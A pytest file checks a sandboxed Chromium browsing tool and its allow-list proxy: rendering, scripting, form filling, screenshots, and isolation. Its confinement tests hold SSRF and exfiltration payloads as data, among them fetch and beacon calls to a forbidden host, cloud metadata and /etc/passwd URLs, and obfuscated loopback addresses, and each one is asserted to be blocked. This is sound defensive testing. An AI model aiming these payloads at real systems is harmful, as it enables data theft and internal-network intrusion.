"""A real Chromium, confined: what it shows, what it does, and what it can't reach."""

from __future__ import annotations

import base64
import contextlib
import json
import shutil
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import psutil
import pytest

from mimo.actors.web import acting, browsing, children, chromium, confinement, judging
from mimo.actors.web import messages as wm
from mimo.actors.web.proxy import Proxy, listening, place_of
from mimo.config.errors import (
    Conflict,
    DeadlineExceeded,
    InvalidRequest,
    MimoError,
    NotAvailable,
    Unavailable,
)
from mimo.config.settings import Settings, load_settings
from tests.support.waiting import eventually
from tests.support.website import Website, website

HAS_BROWSER = any(map(shutil.which, judging._BROWSERS))
needs_browser = pytest.mark.skipif(not HAS_BROWSER, reason="no Chromium is installed")


@pytest.fixture(scope="module")
def site() -> Iterator[Website]:
    """The site that may be visited."""
    with website() as site:
        yield site


@pytest.fixture(scope="module")
def other() -> Iterator[Website]:
    """A site that may not."""
    with website() as site:
        yield site


@pytest.fixture
def settings(site: Website, tmp_path: Path) -> Settings:
    """What allows the one site, and a workspace."""
    (tmp_path / "work").mkdir()
    (tmp_path / "data").mkdir()
    return load_settings(
        {
            "web.allow": site.host,
            "data_dir": str(tmp_path / "data"),
            "workspace.roots": str(tmp_path / "work"),
        }
    )


def visit(settings: Settings, url: str, **how: Any) -> dict[str, Any]:
    """Do a job with a browser in a child, as the worker does; all of it is gone afterwards."""
    request = wm.Browse(url=url, **how)
    child = children.start(lambda: browsing.done(request, settings))
    try:
        child.link.setblocking(True)
        while not child.receive():
            continue
        return dict(child.answer())
    finally:
        child.end()
        eventually(lambda: not browsers_of(child.pid), what="the end of the browser")


def browsers_of(pid: int) -> list[int]:
    """Return the browsers that a job started, wherever they went."""
    found = []
    for process in psutil.process_iter(["cmdline", "ppid"]):
        line = " ".join(process.info["cmdline"] or ())
        if "--remote-debugging-pipe" in line and process.info["ppid"] == pid:
            found.append(process.pid)
    return found


# -- What it shows --------------------------------------------------------------------------------
@needs_browser
def test_a_page_is_read_after_its_scripts(settings: Settings, site: Website) -> None:
    """Which plain HTTP doesn't show. Source: issue 4, web."""
    found = visit(settings, f"{site.url}/scripted")

    assert found["data"]["text"].startswith("Made by a script")
    assert found["data"]["title"] == "Scripted"
    assert found["data"]["status"] == 200
    assert found["untrusted"] == f"{site.url}/scripted"


@needs_browser
@pytest.mark.parametrize(
    ("script", "expected"),
    [
        ("document.title", "Scripted"),
        ("return 1 + 1", 2),
        ("new Promise(done => setTimeout(() => done({a: [1]}), 50))", {"a": [1]}),
        ("undefined", None),
    ],
)
def test_a_script_gives_its_value(
    settings: Settings, site: Website, script: str, expected: Any
) -> None:
    """An expression, a body, a promise. Source: original 1.5."""
    found = visit(settings, f"{site.url}/scripted", shape="evaluate", script=script)

    assert found["data"]["value"] == expected


@needs_browser
def test_a_script_that_fails_says_why(settings: Settings, site: Website) -> None:
    """In its own words. Source: ours."""
    with pytest.raises(InvalidRequest, match="ReferenceError: nothing is not defined"):
        visit(settings, f"{site.url}/scripted", shape="evaluate", script="nothing.at.all")


@needs_browser
def test_a_form_is_filled_in_and_sent(settings: Settings, site: Website) -> None:
    """As a person would, step by step. Source: original 1.5."""
    actions = (
        {"type": "type", "selector": "#name", "value": "Ada"},
        {"type": "press", "value": "!"},
        {"type": "select", "selector": "#colour", "value": "blue"},
        {"type": "hover", "selector": "#go"},
        {"type": "click", "selector": "#go"},
        {"type": "wait", "selector": "#out"},
        {"type": "evaluate", "value": "document.getElementById('out').textContent"},
        {"type": "screenshot"},
    )

    found = visit(settings, f"{site.url}/scripted", shape="interact", actions=actions)

    assert found["data"]["completed"] == len(actions)
    assert found["data"]["results"][6]["value"] == "Hello Ada! in b"
    assert base64.b64decode(found["attachments"][0][1]).startswith(b"\xff\xd8\xff")


@needs_browser
def test_a_click_leads_to_another_page(
    settings: Settings, site: Website, monkeypatch: pytest.MonkeyPatch
) -> None:
    """And that is waited for. Source: original 1.5."""
    monkeypatch.setattr(acting, "ELEMENT_S", 1.0)
    site.pages["/link"] = (200, "text/html", b"<a href='/'>home</a>", {})
    actions = (
        {"type": "click", "selector": "a"},
        {"type": "waitForNavigation"},
        {"type": "click", "selector": "#nowhere"},
        {"type": "scroll"},
    )

    found = visit(settings, f"{site.url}/link", shape="interact", actions=actions)["data"]

    assert found["url"] == f"{site.url}/"
    assert [each["ok"] for each in found["results"]] == [True, True, False]
    assert "can be seen at '#nowhere'" in found["results"][2]["error"]


@needs_browser
def test_checks_of_a_page_pass_and_fail(
    settings: Settings, site: Website, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each with what there is. Source: original 1.5."""
    monkeypatch.setattr(acting, "CHECK_S", 0.3)
    cases = (
        {"assert": "exists", "selector": "#go"},
        {"assert": "text", "selector": "#root", "expected": "a script"},
        {"assert": "value", "selector": "#colour", "expected": "r"},
        {"assert": "visible", "selector": "#go"},
        {"assert": "url", "expected": "/scripted"},
        {"assert": "count", "selector": "option", "expected": "2"},
        {"assert": "title", "expected": "Another", "name": "the title"},
    )

    found = visit(settings, f"{site.url}/scripted", shape="test", cases=cases)["data"]

    assert (found["passed"], found["failed"]) == (6, 1)
    assert found["results"][6] == {
        "name": "the title",
        "assert": "title",
        "passed": False,
        "got": "Scripted",
    }


@needs_browser
def test_a_picture_and_a_pdf_are_attached_or_written(settings: Settings, site: Website) -> None:
    """To a new file of the workspace alone. Source: mcp.md 7, files."""
    picture = visit(settings, f"{site.url}/", shape="screenshot", selector="h1")
    (kind, data) = picture["attachments"][0]
    path = settings.workspace.roots[0] / "page.pdf"

    written = visit(settings, f"{site.url}/", shape="pdf", format="A4", path=str(path))["data"]

    assert kind == "image/png"
    assert base64.b64decode(data).startswith(b"\x89PNG")
    assert written["path"] == str(path.resolve())
    assert path.read_bytes().startswith(b"%PDF")
    assert written["bytes"] == path.stat().st_size
    for wrong, error in ((path, Conflict), (Path("/etc/x.pdf"), InvalidRequest)):
        with pytest.raises(error):
            visit(settings, f"{site.url}/", shape="pdf", format="A4", path=str(wrong))


# -- What it can't reach --------------------------------------------------------------------------
@needs_browser
def test_a_page_reaches_no_host_that_is_not_allowed(
    settings: Settings, site: Website, other: Website
) -> None:
    """By picture, script, frame, socket or form: all goes through the guard. Source: mcp.md 7."""
    page = f"""<title>evil</title><img src="{other.url}/picture"><iframe src="{other.url}/frame">
</iframe><img src="http://169.254.169.254/latest"><iframe src="file:///etc/passwd"></iframe>
<img src="http://2130706433:{other.server_address[1]}/"><link rel=prefetch href="{other.url}/p">
<script>fetch('{other.url}/fetch', {{mode: 'no-cors'}}).catch(() => 0);
navigator.sendBeacon('{other.url}/beacon', 'x'); new WebSocket('ws://{other.host}/socket');
</script>"""
    site.pages["/evil"] = (200, "text/html", page.encode(), {})

    found = visit(settings, f"{site.url}/evil")

    assert other.requests == []
    assert {other.host, "169.254.169.254"} <= set(found["data"]["blocked"])
    assert "root:" not in json.dumps(found)


@needs_browser
@pytest.mark.parametrize("way", ["redirect", "script", "meta"])
def test_a_page_that_leads_elsewhere_is_refused(
    settings: Settings, site: Website, other: Website, way: str
) -> None:
    """However it does. Source: mcp.md 7, SSRF."""
    there = f"{other.url}/secret"
    html = {
        "redirect": b"",
        "script": f"<script>location = '{there}'</script>".encode(),
        "meta": f"<meta http-equiv=refresh content='0;url={there}'>".encode(),
    }[way]
    status, headers = (302, {"Location": there}) if way == "redirect" else (200, {})
    site.pages["/away"] = (status, "text/html", html, headers)

    with pytest.raises(NotAvailable, match=r"web\.allow"):
        visit(settings, f"{site.url}/away")

    assert other.requests == []


@needs_browser
@pytest.mark.parametrize("url", ["file:///etc/passwd", "chrome://version/", "view-source:x"])
def test_a_script_leads_to_no_file(settings: Settings, site: Website, url: str) -> None:
    """The browser's own pages and the disk stay closed. Source: mcp.md 7."""
    script = f"window.open('{url}'); location = '{url}'; document.body.innerText"

    shown = ""
    with contextlib.suppress(MimoError):
        found = visit(settings, f"{site.url}/scripted", shape="evaluate", script=script)
        shown = json.dumps(found)
        assert found["data"]["url"].startswith((site.url, "about:"))

    assert "root:" not in shown


@needs_browser
def test_the_browser_has_a_network_and_folders_of_its_own(
    settings: Settings, site: Website
) -> None:
    """The kernel holds it, not only its settings. Source: ours."""
    found = visit(settings, f"{site.url}/scripted")
    if found["degraded"]:
        pytest.skip(f"this machine lends no namespace: {found['degraded']}")
    seen: dict[str, Any] = {}

    def look() -> Any:
        with chromium.browser(judging.browser_of(settings.web), settings) as opened:
            root = Path(f"/proc/{opened.pid}")
            eventually(lambda: "chromium" in (root / "cmdline").read_text(), what="its program")
            links = {name: str((root / "ns" / name).readlink()) for name in ("net", "mnt", "user")}
            ours = {name: str(Path(f"/proc/self/ns/{name}").readlink()) for name in links}
            status = (root / "status").read_text()
            mounts = (root / "mounts").read_text()
            interfaces = (root / "net" / "dev").read_text()
            return {
                "data": {
                    "shared": [name for name in links if links[name] == ours[name]],
                    "is_root": "Uid:\t0" in status,
                    "has_scratch": " /tmp tmpfs" in mounts,
                    "interfaces": interfaces.count(":"),
                }
            }

    child = children.start(look)
    child.link.setblocking(True)
    while not child.receive():
        continue
    seen = dict(child.answer())["data"]
    child.end()

    assert seen == {"shared": [], "is_root": False, "has_scratch": True, "interfaces": 1}


@needs_browser
def test_a_page_that_never_rests_is_ended_in_time(
    settings: Settings, site: Website, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Its scripts go on for ever. Source: issue 4, isolation."""
    monkeypatch.setattr(browsing, "MORE_S", 1.0)
    site.pages["/loop"] = (200, "text/html", b"<script>for (;;);</script>", {})

    with pytest.raises(DeadlineExceeded, match="give more 'timeout'"):
        visit(settings, f"{site.url}/loop", timeout_s=1.0)


@needs_browser
def test_without_namespaces_the_proxy_holds_it_and_that_is_said(
    settings: Settings, site: Website, other: Website, monkeypatch: pytest.MonkeyPatch
) -> None:
    """And the profile on disk is gone afterwards. Source: ours."""

    def refuse(*_: object) -> None:
        raise PermissionError

    monkeypatch.setattr(confinement.Confinement, "_leave_the_world", refuse)
    before = set(Path(confinement.SCRATCH).glob("mimo-browser-*"))
    page = f"<p>here<script>fetch('{other.url}/steal', {{mode: 'no-cors'}})</script>"
    site.pages["/open"] = (200, "text/html", page.encode(), {})

    found = visit(settings, f"{site.url}/open")

    assert found["degraded"] == [chromium.UNCONFINED]
    assert found["data"]["text"] == "here"
    assert found["data"]["blocked"] == [other.host]
    assert other.requests == []
    assert set(Path(confinement.SCRATCH).glob("mimo-browser-*")) <= before


@needs_browser
def test_a_killed_job_takes_its_browser_with_it(settings: Settings, site: Website) -> None:
    """All of its processes. Source: issue 4, isolation."""
    site.pages["/wait"] = (200, "text/html", b"<script>for (;;);</script>", {})
    request = wm.Browse(url=f"{site.url}/wait")
    child = children.start(lambda: browsing.done(request, settings))
    try:
        eventually(lambda: browsers_of(child.pid), what="its browser")
        found = [
            process.pid
            for pid in browsers_of(child.pid)
            for process in (psutil.Process(pid), *psutil.Process(pid).children(recursive=True))
        ]
    finally:
        child.end()

    eventually(lambda: not any(map(psutil.pid_exists, found)), what="the end of the browser")


@needs_browser
def test_a_server_that_is_not_there_is_said(settings: Settings, site: Website) -> None:
    """With the browser's word for it. Source: ours."""
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        host = f"127.0.0.1:{taken.getsockname()[1]}"
        allowed = load_settings({"web.allow": host, "data_dir": str(settings.data_dir)})
        with pytest.raises((Unavailable, NotAvailable), match=r"to answer|ERR_"):
            visit(allowed, f"http://{host}/")


# -- The proxy alone ------------------------------------------------------------------------------
@pytest.fixture
def proxy(site: Website) -> Iterator[tuple[Proxy, int]]:
    """A proxy that lets the one site through, and its port."""
    listener = listening()
    proxy = Proxy(listener, [site.host])
    proxy.start()
    yield proxy, listener.getsockname()[1]
    listener.shutdown(socket.SHUT_RDWR)
    listener.close()


def said(port: int, request: str) -> bytes:
    """Return all that a proxy answers."""
    with socket.create_connection(("127.0.0.1", port), 10) as link:
        link.sendall(request.encode())
        link.shutdown(socket.SHUT_WR)
        received = b""
        while part := link.recv(65_536):
            received += part
    return received


@pytest.mark.parametrize(
    "request_line",
    [
        "CONNECT 169.254.169.254:80",
        "CONNECT [::ffff:127.0.0.1]:{port}",
        "CONNECT 0x7f.1:{port}",
        "CONNECT 2130706433:{port}",
        "CONNECT localhost:{port}",
        "GET http://{host}/secret",
        "GET file:///etc/passwd",
        "GET gopher://x/",
        "GET /",
        "CONNECT user:password@{host}",
    ],
)
def test_the_proxy_refuses_what_the_guard_does(
    proxy: tuple[Proxy, int], other: Website, request_line: str
) -> None:
    """In each spelling. Source: mcp.md 7, SSRF."""
    port = other.server_address[1]
    line = request_line.format(port=port, host=other.host)

    assert said(proxy[1], f"{line} HTTP/1.1\r\n\r\n").startswith(b"HTTP/1.1 403")
    assert other.requests == []


def test_the_proxy_forwards_to_what_is_allowed(proxy: tuple[Proxy, int], site: Website) -> None:
    """Without what is meant for the proxy. Source: RFC 9112, 3.2.2."""
    request = (
        f"GET {site.url}/echo HTTP/1.1\r\nHost: {site.host}\r\nProxy-Authorization: x\r\n"
        "Proxy-Connection: keep-alive\r\n\r\n"
    )

    with socket.create_connection(("127.0.0.1", proxy[1]), 10) as link:
        link.sendall(request.encode())
        answer = b"".join(iter(lambda: link.recv(65_536), b""))

    assert b'"Connection": "close"' in answer
    assert b"Proxy" not in answer


def test_the_browsers_own_services_are_never_reached() -> None:
    """Also where every host is allowed. Source: ours."""
    listener = listening()
    proxy = Proxy(listener, ["*"])
    proxy.start()
    port = listener.getsockname()[1]

    assert b"403" in said(port, "CONNECT update.googleapis.com:443 HTTP/1.1\r\n\r\n")[:12]
    listener.shutdown(socket.SHUT_RDWR)
    listener.close()
    assert place_of("http://a:1/b") == "a:1"
